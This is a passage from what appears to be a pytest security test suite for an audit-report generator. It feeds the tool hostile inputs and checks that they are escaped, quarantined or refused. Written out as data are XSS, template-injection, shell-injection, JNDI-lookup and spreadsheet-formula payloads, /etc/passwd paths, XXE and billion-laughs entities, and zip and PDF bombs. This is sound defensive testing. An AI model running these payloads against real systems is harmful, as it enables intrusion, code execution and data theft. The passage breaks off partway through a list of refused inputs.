"""Hostile input: whatever strangers write is escaped, held or refused with a reason. Nothing of it fetches, runs, leaves
its folder or stops the other cards.

Most values stand in one project that is audited once, with its PDFs: what can be printed in records and titles, what
cannot in rows that go to quarantine. What nobody can read at all is refused before anything is published.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import socket
import socketserver
import subprocess
import sys
import threading
import zipfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import uuid4

import pikepdf
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pypdf import PdfReader

from conftest import SETTINGS, TABLES
from scaudit import crews
from scaudit.asking import silence_csv
from scaudit.audit import audit
from scaudit.cli import main
from scaudit.document import opening
from scaudit.errors import ProjectError, UsageError
from scaudit.indicators import indicators
from scaudit.inspecting import inspect
from scaudit.order import Order
from scaudit.project import find_project
from scaudit.results import Results
from scaudit.scorecard import annex
from scaudit.scorecard.build import item_card
from scaudit.scorecard.substance import PASSING
from scaudit.scorecard.wording import web_address
from scaudit.slug import slug
from scaudit.verifying import verify
from scorecard_factory import record, some_results
from tag_reading import needed
from workbook import write_workbook

REPOSITORY = Path(__file__).resolve().parents[1]
DAY, KNOWN = date(2023, 12, 31), date(2030, 1, 1)
ITEM, CRITERION = "EVIL/R1", "EVIL/R1.a"
CLEAN = ("FSA/R1", "COOKS/I")
HOST = "127.0.0.1:HOST"  # the listener's port is put in place of the word
CANARY = "canary"

PRINTED = {
    "script": '<script src="http://HOST/a">fetch("http://HOST/b")</script>',
    "picture with a handler": '<img src="http://HOST/c" onerror="alert(1)"/>',
    "handler in double quotes": '" onmouseover="alert(1)" x="',
    "handler in single quotes": "' onfocus='alert(1)' autofocus='",
    "style and import": '</style><style>@import "http://HOST/d"; * { background: url(http://HOST/e) }</style>',
    "style in an attribute": 'x" style="background: url(http://HOST/f)',
    "style by numbers": "\\00003c/style\\00003e counter(pages) attr(data-foot)",
    "refresh": '</title><meta http-equiv="refresh" content="0; url=http://HOST/g"/>',
    "end of a comment": "--> <!-- ]]> <![CDATA[ <b>x</b> ]]>",
    "picture of lines": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://HOST/h"/><use href="file:///etc/passwd#x"/></svg>',
    "foreign object": "<svg><foreignObject><iframe src='http://HOST/i'></iframe></foreignObject></svg>",
    "frame of a file": '<iframe src="file:///etc/passwd"></iframe>',
    "attachment": '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "data address": '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    "base": '<base href="http://HOST/j/"/>',
    "form": '<form action="http://HOST/k"><input name="q"/></form>',
    "addresses as text": "javascript:alert(1) file:///etc/passwd \\\\HOST\\share ftp://HOST/l",
    "template expression": "{{ 7*7 }} {{ ''.__class__.__mro__ }} {{ config }}",
    "template that runs": "{{ cycler.__init__.__globals__.os.system('touch canary') }}",
    "template block": '{% include "base.html" %}{% raw %}{# gone #}{% set x = 1 %}',
    "format string": "{ask} {0.__class__} %(x)s %s {closed:>9999999999}",
    "entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; &lt;b&gt; &#60;i&#62; &amp;amp;',
    "query": "'); drop table clean.evidence; --",
    "shell": "$(touch canary) `touch canary`; rm -rf . | tee canary",
    "lookup": "${jndi:ldap://HOST/m} ${env:HOME}",
    "end of a PDF string": ") Tj ET /URI (http://HOST/n) >> endobj trailer << /OpenAction << /S /JavaScript >> >>",
    "console markup": "[bold red]x[/] [link=http://HOST/o]y[/link] \\",
    "formula": '=HYPERLINK("http://HOST/p","x")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula by bar": "|cmd /C calc",
    "formula after a space": " =1+1",
    "formula after a tab": "\t=1+1",
    "formula on a new line": "\r\n=1+1",
    "wide formula": "\uff1d1+1",
    "small formula": "\ufe631+1",
    "mail header": "Re: milk\r\nBcc: all@example.org\r\n\r\nhello",
    "letters from right to left": "\u05d0\u05d1\u05d2 (1) \u0627\u0644\u0639 [2]",
    "marks on marks": "x" + "\u0301" * 300,
    "signs that no font has": "\U0001f600 \ue000 \u4e2d \ufdd0",
    "blanks of many widths": "a\u00a0b\u2003c\u3000d\u115fe\uffa0f",
    "path": "../../../etc/passwd C:\\Windows\\System32 /dev/zero",
    "one long word": "W" * 3900,
}
"""Values that may stand on a card: each is the finding and the place of a record, and the title of its source."""

HELD = {
    "text turned around": ("evidence", {"finding": "paid \u202e001$\u202c"}, "E105"),
    "text kept apart": ("evidence", {"finding": "a\u2066b\u2069"}, "E105"),
    "nothing between letters": ("evidence", {"finding": "mi\u200blk"}, "E105"),
    "joined letters": ("evidence", {"locator": "a\u200db"}, "E105"),
    "soft hyphen": ("evidence", {"finding": "mi\u00adlk"}, "E105"),
    "byte order mark": ("evidence", {"finding": "\ufeffmilk"}, "E105"),
    "letters of a tag": ("evidence", {"finding": "milk\U000e0041\U000e0042"}, "E105"),
    "terminal command": ("evidence", {"finding": "\x1b[2J\x1b]0;owned\x07"}, "E105"),
    "terminal command of eight bits": ("evidence", {"finding": "\x9b2J"}, "E105"),
    "NUL": ("evidence", {"finding": "a\0b"}, "E004"),
    "a million signs": ("evidence", {"finding": "x" * 1_000_000}, "E103"),
    "an id of a million signs": ("evidence", {"evidence_id": "x" * 1_000_000}, "E102"),
    "up and away": ("evidence", {"evidence_id": "../../../x"}, "E102"),
    "from the root": ("evidence", {"evidence_id": "/etc/passwd"}, "E102"),
    "a drive": ("evidence", {"evidence_id": "C:x"}, "E102"),
    "another machine": ("evidence", {"evidence_id": "\\\\HOST\\share"}, "E102"),
    "a dot at the end": ("evidence", {"evidence_id": "x."}, "E102"),
    "a hidden file": ("evidence", {"evidence_id": ".x"}, "E102"),
    "a letter that looks like another": ("evidence", {"evidence_id": "\u0415V1"}, "E102"),
    "a letter that nobody sees": ("evidence", {"evidence_id": "EV\u200b1"}, "E102"),
    "a new line in an id": ("evidence", {"evidence_id": "EV\n1"}, "E102"),
    "year 0": ("evidence", {"event_from": "0000-01-01"}, "E106"),
    "year -1": ("evidence", {"event_from": "-0001-01-01"}, "E106"),
    "year 9999": ("evidence", {"event_from": "9999-12-31"}, "E106"),
    "year 10000": ("evidence", {"event_from": "10000-01-01"}, "E106"),
    "31 February": ("evidence", {"event_from": "2022-02-31"}, "E106"),
    "29 February 1900": ("evidence", {"event_from": "1900-02-29"}, "E106"),
    "infinity for a day": ("evidence", {"event_from": "infinity"}, "E106"),
    "digits of another script": ("evidence", {"event_from": "\uff12\uff10\uff12\uff12"}, "E106"),
    "address that runs": ("sources", {"url": "javascript:alert(1)"}, "E109"),
    "address of data": ("sources", {"url": "data:text/html,<script>1</script>"}, "E109"),
    "address of a file": ("sources", {"url": "file:///etc/passwd"}, "E109"),
    "address of another service": ("sources", {"url": "ftp://HOST/x"}, "E109"),
    "address without a service": ("sources", {"url": "//HOST/x"}, "E109"),
    "address of a share": ("sources", {"url": "\\\\HOST\\share"}, "E109"),
    "address behind a space": ("sources", {"url": " https://example.org/"}, "E109"),
    "address turned around": ("sources", {"url": "https://example.org/\u202egro"}, "E105"),
    "an item that differs in capitals": ("recommendations", {"item_id": "fsa/r1"}, "E206"),
    "an item up and away": ("recommendations", {"item_id": "../x"}, "E102"),
    "a number without end": ("criteria", {"shelf_life_months": "1e999"}, "E108"),
    "no number": ("criteria", {"shelf_life_months": "NaN"}, "E108"),
    "a number of a million digits": ("criteria", {"sustain_months": "9" * 1_000_000}, "E108"),
    "a reply turned around": ("replies", {"words": "We \u202edid\u202c."}, "E105"),
    "a reply of a million signs": ("replies", {"words": "x" * 1_000_000}, "E103"),
    "a second header": ("stakeholders", {"address": "a@example.org\r\nBcc: b@example.org"}, "E113"),
    "a second address": ("stakeholders", {"address": "a@example.org, b@example.org"}, "E113"),
    "a folder up and away": ("stakeholders", {"channel": "folder", "address": "../../x"}, "E113"),
    "a device": ("stakeholders", {"channel": "folder", "address": "CON"}, "E113"),
    "a name of two lines": ("stakeholders", {"name": "Ann\r\nBcc: b@example.org"}, "E115"),
}
"""Rows that nobody may see as they are: the table, what is wrong in a row that is good otherwise, and the code."""

LINKED = {
    "https://example.org/a?b=c&d=%20#e": "https://example.org/a?b=c&d=%20#e",
    "https://\u4f8b\u3048.jp/\u00e9": "https://xn--r8jz45g.jp/%C3%A9",
    'http://example.org/"><script>alert(1)</script>': "http://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://example.org@evil.example/": "",
    "https://user:secret@example.org/": "",
    "https://[bad/": "",
    "https://example.org:99999/": "",
    "https://example.org\\@evil.example/": "",
    "https://ex\u0430mple..org/": "",
}
"""Addresses of sources, and what the title of the source links: nothing where that is empty."""

Row = dict[str, str]
GOOD: dict[str, Row] = {
    "evidence": {
        "criterion_id": CRITERION, "source_id": "LAB-STUDY", "locator": "p 1", "origin_id": "LAB", "stance": "context",
        "basis": "data", "tense": "observation", "event_from": "2019", "finding": "x", "recorded_on": "2023",
    },
    "sources": {"title": "t", "publisher_id": "LAB", "published_on": "2021"},
    "recommendations": {
        "kind": "recommendation", "title": "t", "issuer_id": "AUDIT", "accountable_id": "OFFICE",
        "issued_on": "2020-05-04", "response": "none", "source_id": "FSA-REPORT", "locator": "p 1",
    },
    "criteria": {"item_id": ITEM, "kind": "policy", "ask": "x", "required": "true"},
    "replies": {"item_id": ITEM, "body_id": "OFFICE", "replied_on": "2021", "words": "x", "source_id": "OFFICE-ORDER"},
    "stakeholders": {
        "name": "Ann", "channel": "email", "address": "a@example.org", "items": "all", "what": "both",
        "occasion": "every_edition", "active": "true",
    },
    "dispositions": {"item_id": ITEM, "body_id": "AUDIT", "stated_on": "2022-02-10", "disposition": "partial"},
}  # fmt: skip
KEYS = {"evidence": "evidence_id", "sources": "source_id", "recommendations": "item_id", "criteria": "criterion_id",
        "replies": "reply_id", "stakeholders": "stakeholder_id"}  # fmt: skip


class Listener:
    """A server on this machine that counts who asks it for anything."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                hits.append(repr(self.request.recv(1000)))

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"


@dataclass
class Audited:
    """The hostile project after its audit: where it is, its results, and what was tried meanwhile."""

    root: Path
    results: Results
    listener: Listener
    values: dict[str, str]
    before: set[Path]
    asked: list[Any] = field(default_factory=list)

    @property
    def folder(self) -> Path:
        return self.root / "reports" / DAY.isoformat()

    def card(self, item_id: str, ending: str) -> Path:
        return self.folder / "items" / f"{slug(item_id)}.{ending}"


def new_project(root: Path, settings: str = SETTINGS) -> Path:
    (root / "inputs").mkdir(parents=True)
    (root / "scaudit.toml").write_text(settings, encoding="utf-8")
    shutil.copytree(REPOSITORY / "schemas", root / "schemas", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPOSITORY / "reports" / "templates", root / "reports" / "templates")
    for table, text in TABLES.items():
        (root / "inputs" / f"{table}.csv").write_text(text, encoding="utf-8")
    return root


def add(root: Path, table: str, rows: list[Row]) -> None:
    """Append rows to an input file, which gets the columns that it lacks."""
    path = root / "inputs" / f"{table}.csv"
    there = list(csv.DictReader(io.StringIO(path.read_text("utf-8")))) if path.exists() else []
    columns = list(dict.fromkeys(name for row in [*there, *rows] for name in row))
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, columns, restval="", lineterminator="\n")
        writer.writeheader()
        writer.writerows([*there, *rows])


def run(root: Path, *, with_pdf: bool = False, edition: str = "", items: tuple[str, ...] = ()) -> Results:
    order = Order(root, DAY, KNOWN, uuid4().hex, edition, items, with_pdf)
    return audit(order, lambda: datetime(2024, 1, 1)).results  # noqa: DTZ001


def everything(folder: Path) -> set[Path]:
    return {path.relative_to(folder) for path in folder.rglob("*")}


def hostile_settings(host: str) -> str:
    """Settings whose every word is hostile; TOML and JSON write such words alike."""
    words = {name: json.dumps(value.replace("HOST", host)) for name, value in PRINTED.items()}
    text = SETTINGS.replace('"Cold chain: what was asked and what was done"', words["refresh"])
    text = text.replace('"The kitchen auditors"', words["mail header"]).replace(
        '"Write to the kitchen auditors with the record and its page."', words["script"]
    )
    return f'{text.replace(chr(34) + "Cold Chain Pilot" + chr(34), words["template that runs"])}"EVIL" = {words["style and import"]}\n'


def plant(root: Path, values: dict[str, str]) -> None:
    """Put an item whose every word is hostile beside the two clean ones, and rows that must be held."""
    evil, rows = list(values.values()), defaultdict[str, list[Row]](list)

    def good(name: str, key: str, /, **changes: str) -> None:
        keyed = {KEYS[name]: key} if name in KEYS else {}
        rows[name].append({**GOOD[name], **keyed, **changes})

    rows["bodies"].append({"body_id": "EVE", "name": values["picture with a handler"], "kind": "press"})
    good("recommendations", ITEM, title=values["foreign object"], summary=values["script"])
    for letter, name in (("a", "formula"), ("b", "template block"), ("c", "format string")):
        good("criteria", f"{ITEM}.{letter}", ask=values[name])
    good("criteria", f"{ITEM}.{'d' * 90}", ask="W" * 290)
    for number, value in enumerate(evil):
        good("sources", f"S{number}", title=value[:500])
        days = [
            date(year, 1 + number // 28, 1 + number % 28).isoformat() for year in (2018, 2019)
        ]  # else printed as one
        seen = {"source_id": f"S{number}", "locator": value[:300], "event_from": days[0]}
        good("evidence", f"V{number:02}", finding=f"v{number:02} {value}", **seen)
        good("evidence", f"Z{number:02}", finding=value, event_from=days[1])
    for number, url in enumerate(LINKED):
        good("sources", f"U{number}", url=url)
        good("dispositions", "", source_id=f"U{number}", words=evil[number])
    for number, value in enumerate(evil[:3]):
        good("replies", f"R{number}", words=value)
    bearing = {"stance": "supports", "method_stated": "true", "event_from": "2022", "origin_id": "EVE"}
    good("evidence", "EVE-1", finding=values["picture of lines"], **bearing)
    good("evidence", "E" * 100, criterion_id=f"{ITEM}.{'d' * 90}", **bearing)
    for number, (name, changes, _) in enumerate(HELD.values()):
        good(name, f"H{number:02}", **{column: cell.replace("HOST", "x") for column, cell in changes.items()})
    for name, more in rows.items():
        add(root, name, more)


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Audited]:
    """The hostile project, audited once with its PDFs, printed in this process so that every connection is seen."""
    listener, place = Listener(), tmp_path_factory.mktemp("hostile")
    root = new_project(place / "project", hostile_settings(listener.host))
    values = {name: value.replace("HOST", listener.host) for name, value in PRINTED.items()}
    plant(root, values)
    told = Audited(root, None, listener, values, everything(place))  # type: ignore[arg-type]
    with pytest.MonkeyPatch.context() as patch:
        for name in ("connect", "connect_ex"):
            patch.setattr(socket.socket, name, lambda _self, address: told.asked.append(address))
        patch.setattr(socket, "getaddrinfo", lambda *arguments, **_named: told.asked.append(arguments))
        patch.setattr(crews, "WORTH_IT", 99)
        patch.chdir(place)
        told.results = run(root, with_pdf=True)
    yield told
    listener.server.shutdown()


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory, audited: Audited) -> Path:
    """The edition of the same project without a hostile row."""
    settings = (audited.root / "scaudit.toml").read_text("utf-8")
    root = new_project(tmp_path_factory.mktemp("plain") / "project", settings)
    run(root)
    return root / "reports" / DAY.isoformat()


class Page(HTMLParser):
    """What a browser makes of a page: its elements with their attributes, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def readable(text: str) -> str:
    """The letters and digits that any font has: what two ways to print a text have in common."""
    return re.sub(r"\[U\+[0-9A-F]{4,6}\]|[^A-Za-z0-9]", "", text)


def test_there_are_at_least_forty_values() -> None:
    """As was asked for; and each is another one."""
    assert len(PRINTED) + len(HELD) + len(LINKED) + len(REFUSED) > 120
    assert len(set(PRINTED.values())) == len(PRINTED)


def test_nobody_was_asked_for_anything(audited: Audited) -> None:
    """No address in any value was looked up, let alone fetched: the listener would have heard it."""
    with socket.create_connection(audited.listener.server.server_address[:2]) as line:  # the listener does listen
        line.sendall(b"here")
    for _ in range(100):
        if audited.listener.hits:
            break
        threading.Event().wait(0.02)
    assert audited.listener.hits == ["b'here'"]
    assert audited.asked == []


def test_nothing_was_run_and_nothing_left_its_folder(audited: Audited) -> None:
    """What is new lies in the edition, or in the folder where runs keep what is not published."""
    place = audited.root.parent
    assert not list(place.rglob(CANARY))
    own = (Path("project/reports") / DAY.isoformat(), Path("project/.scaudit"))
    new = everything(place) - audited.before
    assert new
    assert {path for path in new if not any(path.is_relative_to(one) for one in own)} == set()
    items = {f"items/{slug(item)}.{ending}" for item in (ITEM, *CLEAN) for ending in ("pdf", "html", "json")}
    whole = items | {"overview.pdf", "overview.html", "audit.json", "questions.csv", "manifest.json"}
    assert {
        path.relative_to(audited.folder).as_posix() for path in audited.folder.rglob("*") if path.is_file()
    } == whole


@pytest.mark.parametrize("name", PRINTED)
def test_a_value_is_printed_as_the_text_that_it_is(audited: Audited, name: str) -> None:
    """In the data word for word; on the page and in the PDF by its letters, none of which made anything else of it."""
    number = list(PRINTED).index(name)
    value, card = audited.values[name], json.loads(audited.card(ITEM, "json").read_text("utf-8"))
    records = {row["evidence_id"]: row for ask in card["criteria"] for row in ask["records"]}
    assert records[f"V{number:02}"]["finding"] == f"v{number:02} {value}".replace("\r\n", "\n")
    printed = readable(f"v{number:02} {value}")[:1_000]  # what is longer goes over pages, which have heads
    assert printed in readable(Page(audited.card(ITEM, "html").read_text("utf-8")).words)
    assert printed in pdf_words(audited)


def pdf_words(audited: Audited) -> str:
    """The words of the hostile card's annex, as a program reads them, page heads and feet left out."""
    if "pdf" not in _READ:
        pages = [page.extract_text() for page in PdfReader(audited.card(ITEM, "pdf")).pages]
        _READ["pdf"] = readable("".join(re.sub(r"(?m)^(Edition|Page|Record, when).*$", "", page) for page in pages))
    return _READ["pdf"]


_READ: dict[str, str] = {}


@pytest.mark.parametrize("item_id", [ITEM, *CLEAN])
def test_a_page_has_no_element_that_a_value_made(audited: Audited, item_id: str) -> None:
    """No script, no frame, no handler, no style of theirs, no address but that of a source."""
    page = Page(audited.card(item_id, "html").read_text("utf-8"))
    tags = {tag for tag, _ in page.elements}
    assert not tags & {
        "script",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "input",
        "image",
        "use",
        "foreignobject",
        "img",
        "link",
    }
    for tag, given in page.elements:
        assert not [
            name for name in given if name.startswith("on") or name in ("src", "srcdoc", "action", "autofocus")
        ], tag
        assert "url(" not in (given.get("style") or "")
        assert (tag, given.get("http-equiv")) != ("meta", "refresh")
    addresses = {given["href"] for tag, given in page.elements if tag == "a" and given.get("href")}
    ours = {one for one in addresses if one and one.startswith(("#", slug(item_id)))}
    assert addresses - ours <= {*LINKED.values(), "https://example.org/report"}


def test_titles_of_sources_link_web_addresses_only(audited: Audited) -> None:
    """In the PDF too: one link for each address that is one, and neither action nor file but ours."""
    with pikepdf.open(audited.card(ITEM, "pdf")) as document:
        links = [one.A for page in document.pages for one in page.get("/Annots", []) if "/A" in one]
        names = list(document.attachments)
        assert "/OpenAction" not in document.Root
        assert "/AcroForm" not in document.Root
        assert "/JavaScript" not in document.Root.get("/Names", {})
    assert {str(link.S) for link in links} <= {"/URI", "/GoTo"}
    wanted = {address for address in LINKED.values() if address}
    assert {str(link.URI) for link in links if link.S == "/URI"} - {"https://example.org/report"} == wanted
    assert set(names) == {"evidence.csv", "grounds.json", "scorecard.json"}


@pytest.mark.parametrize(("url", "linked"), LINKED.items())
def test_an_address_is_linked_as_it_is_or_not_at_all(url: str, linked: str) -> None:
    """Nothing that names a user, hides its machine or breaks whoever reads it."""
    assert web_address(url) == linked


def test_what_the_document_says_of_itself_is_one_line(audited: Audited) -> None:
    """Titles in the metadata hold no second header and no element."""
    reader = PdfReader(audited.card(ITEM, "pdf"))
    assert reader.metadata is not None
    assert "foreignObject" in str(reader.metadata.title)
    assert not re.search(r"[\r\n]", f"{reader.metadata.title}{reader.metadata.author}{reader.metadata.subject}")
    packet = reader.trailer["/Root"]["/Metadata"].get_data().decode()
    assert "<iframe" not in packet
    assert "<script" not in packet


def test_no_table_of_ours_has_a_formula(audited: Audited) -> None:
    """Every cell that a spreadsheet might run has an apostrophe before it; every other stands as it was."""
    with pikepdf.open(audited.card(ITEM, "pdf")) as document:
        text = document.attachments["evidence.csv"].get_file().read_bytes().decode()
    cells = {row["evidence_id"]: row["finding"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    for number, (name, value) in enumerate(audited.values.items()):
        runs = "formula" in name or name == "end of a comment"
        assert cells[f"Z{number:02}"] == ("'" if runs else "") + value.replace("\r\n", "\n"), name
    asked = (audited.folder / "questions.csv").read_text("utf-8")
    for table in (text, asked):
        for row in csv.reader(io.StringIO(table, newline="")):
            assert not [cell for cell in row if re.match(r"[\s]*[=+@|\uff1d\ufe63-]", cell) and not is_number(cell)]


def is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell))


@pytest.mark.parametrize("name", HELD)
def test_a_row_is_held_with_its_reason(audited: Audited, held_rows: dict[int, list[dict[str, Any]]], name: str) -> None:
    """It is on no card as it was; what is told of it can be seen and is short."""
    table, _, code = HELD[name]
    faults = held_rows[list(HELD).index(name)]
    assert code in {fault["rule"] for fault in faults}
    assert {fault["table_name"] for fault in faults} == {table}
    for fault in faults:
        told = f"{fault['key']}{fault['value']}{fault['reason']}"
        assert len(told) < 700
        assert told.replace("\n", "").isprintable()


@pytest.fixture(scope="module")
def held_rows(audited: Audited) -> dict[int, list[dict[str, Any]]]:
    """The faults of each row that was planted to be held, by its place among them."""
    found: dict[int, list[dict[str, Any]]] = {}
    last: dict[str, int] = {}
    faults = inspect(audited.root).quarantine
    for table in dict.fromkeys(table for table, _, _ in HELD.values()):
        places = sorted({fault["row"] for fault in faults if fault["table_name"] == table})
        numbers = [number for number, (other, _, _) in enumerate(HELD.values()) if other == table]
        assert len(places) == len(numbers), table
        for row, number in zip(places, numbers, strict=True):
            found[number] = [fault for fault in faults if (fault["table_name"], fault["row"]) == (table, row)]
        last[table] = len(places)
    return found


@pytest.mark.parametrize("item_id", CLEAN)
def test_the_other_cards_say_what_they_say_without_it(audited: Audited, plain: Path, item_id: str) -> None:
    """Every status, record, number and word; only the counts of the whole run are others."""
    one, other = (told(folder / "items" / f"{slug(item_id)}.json") for folder in (audited.folder, plain))
    assert one == other
    assert one["criteria"]


def told(path: Path) -> dict[str, Any]:
    """What a card says, but for the run that it is of and how many asks of all items a choice moves."""
    card = {name: value for name, value in json.loads(path.read_text("utf-8")).items() if name not in PASSING}
    for choice in card["sensitivity"]["tried"]:
        del choice["criteria"]
    # rows that name this item are told on its card: one, which differs from it in capitals
    card["quarantine"] = [fault for fault in card["quarantine"] if fault["rule"] != "E206"]
    return card


def test_the_hostile_card_verifies(audited: Audited) -> None:
    """Its data give its statuses again, whatever their words are."""
    found = verify(audited.card(ITEM, "pdf"))
    assert found.passed, found.lines


def test_no_word_runs_over_another(audited: Audited) -> None:
    """A word that is longer than its place is broken, so that it covers nothing and is not cut off by the page."""
    needed(shutil.which("pdftotext") is not None, "pdftotext")
    for path in (audited.card(ITEM, "pdf"), audited.folder / "overview.pdf"):
        done = subprocess.run(["pdftotext", "-bbox", path, "-"], capture_output=True, text=True, check=True)
        words = re.findall(r'xMin="([0-9.]+)" yMin="[0-9.]+" xMax="([0-9.]+)"', done.stdout)
        assert len(words) > 300
        assert min(float(left) for left, _ in words) > 40
        assert max(float(right) for _, right in words) < 572  # of 612, on letter paper


def test_marks_on_a_letter_are_few(audited: Audited) -> None:
    """Hundreds would cover the lines above."""
    words = Page(audited.card(ITEM, "html").read_text("utf-8")).words
    assert "x" + "\u0301" * 4 + "[U+0301]" in words
    assert "\u0301" * 5 not in words


def test_an_attachment_that_unpacks_for_ever_is_no_document_of_ours(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A few bytes inside a PDF cannot fill the memory of whoever verifies it."""
    monkeypatch.setattr(opening, "UNPACKED", 1_000_000)
    path = tmp_path / "bomb.pdf"
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["scorecard.json"] = pikepdf.AttachedFileSpec(document, bytes(50_000_000))
        document.save(path)
    found = verify(path)
    assert not found.passed
    assert any("unpacks to more than 1,000,000 bytes" in line for line in found.lines)


def test_the_overview_renders_and_names_what_is_held(audited: Audited) -> None:
    """It has the rows in quarantine, by their places."""
    page = Page((audited.folder / "overview.html").read_text("utf-8"))
    assert "it differs from FSA/R1" in page.words
    assert PdfReader(audited.folder / "overview.pdf").pages
    assert not {"script", "iframe", "img"} & {tag for tag, _ in page.elements}


# What is refused: one sentence, and what was published before stays as it was.

Change = Callable[[Path], object]
GOOD_SHEET: dict[str, list[list[object]]] = {"unused_facts": [["fact_id", "reason"], ["F7", "x"]]}
SHEET = "xl/worksheets/sheet1.xml"
END = b"</row></sheetData>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10)).encode()


def put(name: str, content: bytes | str) -> Change:
    return lambda root: (root / "inputs" / name).write_bytes(
        content if isinstance(content, bytes) else content.encode()
    )


def settings(text: str) -> Change:
    return lambda root: (root / "scaudit.toml").write_text(f"{text}\n{SETTINGS}", "utf-8")


def table(text: str) -> Change:
    return lambda root: (root / "scaudit.toml").write_text(f"{SETTINGS}\n[tables]\n{text}\n", "utf-8")


def named(name: bytes) -> Change:
    """A file of that name, which a pattern of the settings finds."""

    def change(root: Path) -> None:
        (root / "inputs" / "unused_facts.csv").rename(os.fsdecode(os.fsencode(root / "inputs") + b"/u" + name))
        table('unused_facts = "inputs/u*"')(root)

    return change


def link(name: str, target: str) -> Change:
    def change(root: Path) -> None:
        place = root / "inputs" / name
        place.parent.mkdir(exist_ok=True)
        place.unlink(missing_ok=True)
        place.symlink_to(target)

    return change


def workbook(change: Callable[[bytes], bytes], name: str = SHEET, *, rewritten: bool = False) -> Change:
    """A workbook of which one part was changed by hand; a good one, or the one that is there."""

    def write(root: Path) -> None:
        path = root / "inputs" / "unused_facts.xlsx"
        if not rewritten:
            write_workbook(path, GOOD_SHEET)
        with zipfile.ZipFile(path) as archive:
            parts = {one: archive.read(one) for one in archive.namelist()}
        parts[name] = change(parts.get(name, b""))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for one, content in parts.items():
                archive.writestr(one, content)

    return write


def bomb(root: Path) -> None:
    with (
        zipfile.ZipFile(root / "inputs" / "unused_facts.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/workbook.xml", "w") as file,
    ):
        for _ in range(520):
            file.write(bytes(2**20))


def liar(root: Path) -> None:
    """A workbook whose sheet is longer than its directory says."""
    workbook(lambda text: text.replace(END, b"</row>" + b" " * 5_000_000 + b"</sheetData>"))(root)
    path = root / "inputs" / "unused_facts.xlsx"
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo(SHEET).file_size.to_bytes(4, "little")
    path.write_bytes(path.read_bytes().replace(size, (500).to_bytes(4, "little")))


def cell(text: bytes) -> Change:
    return workbook(lambda sheet: sheet.replace(END, b"</row>" + text + b"</sheetData>"))


def parquet(**columns: pa.Array) -> Change:
    return lambda root: pq.write_table(pa.table(columns), root / "inputs" / "unused_facts.parquet")


def many(value: str, rows: int) -> pa.Array:
    """One value in many rows, which takes no room in the file."""
    return pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), [value])


def query(sql: str) -> Change:
    """An indicator of the project's own that does more than count."""
    header = {"title": "t", "counts": "c", "unit": "u", "kind": "count", "population": "p"}
    words = "".join(f'{name} = "{value}"\n' for name, value in header.items())

    def change(root: Path) -> None:
        (root / "inputs" / "indicators").mkdir()
        (root / "inputs" / "indicators" / "evil.sql").write_text(f"/* {words}needs = []\nbears_on = [] */\n{sql}\n")

    return change


FIGURE = "select date '2020-01-01' as period_from, date '2020-12-31' as period_to, '' as grp, null as version, 1.0 as numerator, null as denominator, null as value, 1 as n"
REFUSED: dict[str, tuple[Change, str]] = {
    "bytes that are no text": (put("bodies.csv", b"body_id,name,kind\nA,\xff\xfe,press\n"), "not UTF-8 at byte 20"),
    "letters written too long": (put("bodies.csv", b"body_id,name,kind\nA,\xc0\xaf,press\n"), "not UTF-8 at byte 20"),
    "half a letter of UTF-16": (put("bodies.csv", b"body_id,name,kind\nA,\xed\xa0\x80,press\n"), "not UTF-8"),
    "half a letter by number": (put("contradictions.jsonl", '{"contradiction_id": "\\ud800"}\n'), "no JSON object"),
    "lists in lists": (put("contradictions.jsonl", '{"x":' + "[" * 200_000 + "]" * 200_000 + "}\n"), "has no column"),
    "thousands of columns": (put("unused_facts.csv", "fact_id,reason," + ",".join(f"c{n}" for n in range(20_000)) + "\nF6,x\n"), "more than 200 columns"),
    "thousands of names": (put("contradictions.jsonl", json.dumps({f"k{n}": n for n in range(20_000)}) + "\n"), "more than 200 columns"),
    "a name of a million signs": (put("unused_facts.csv", "fact_id,reason," + "c" * 1_000_000 + "\nF6,x,\n"), "the header cannot be read"),
    "a column that steers the terminal": (put("unused_facts.csv", "fact_id,reason,\x1b[2J,\x1b[2J\n"), r"'\\x1b\[2J' twice"),
